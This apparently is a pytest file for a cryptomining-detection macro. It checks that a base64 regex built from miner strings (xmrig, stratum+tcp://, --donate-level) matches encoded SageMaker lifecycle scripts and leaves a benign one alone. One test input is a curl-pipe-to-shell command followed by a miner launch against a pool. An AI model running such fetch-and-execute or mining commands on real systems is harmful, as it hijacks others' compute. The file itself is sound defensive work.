"""The `aws_cryptomining_miner_base64` macro is the base64 image of the miner strings at every byte alignment,
so a SageMaker lifecycle script (base64 in CloudTrail) that names them matches, whatever precedes them."""
import base64
import configparser
import re
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
STRINGS = [b"xmrig", b"stratum+tcp://", b"--donate-level"]


def fragments(text: bytes) -> list:
    """The base64 characters that depend only on `text`, for text starting at byte offset 0, 1 and 2 of a group."""
    out = []
    for offset, first_pure in ((0, 0), (1, 2), (2, 3)):
        encoded = base64.b64encode(b"\0" * offset + text).decode()
        out.append(encoded[first_pure:((offset + len(text)) // 3) * 4])
    return out


@pytest.fixture(scope="module")
def macro_regex():
    conf = configparser.ConfigParser(interpolation=None, strict=False)
    conf.read(REPO / "default" / "macros.conf", encoding="utf-8")
    return conf["aws_cryptomining_miner_base64"]["definition"].strip('"')


def test_macro_is_derived_from_the_miner_strings(macro_regex):
    assert macro_regex.split("|") == [f for s in STRINGS for f in fragments(s)]


@pytest.mark.parametrize("prefix", [b"", b"#", b"#!", b"#!/bin/bash\ncurl -sL https://x | sh; ./"])
def test_any_alignment_matches(macro_regex, prefix):
    for text in STRINGS:
        assert re.search(macro_regex, base64.b64encode(prefix + text + b" -o pool:3333").decode())


def test_benign_lifecycle_script_does_not_match(macro_regex):
    script = b"#!/bin/bash\nsudo -u ec2-user -i <<'EOF'\npip install --quiet xgboost==2.1.1 shap==0.46.0\nEOF\n"
    assert not re.search(macro_regex, base64.b64encode(script).decode())
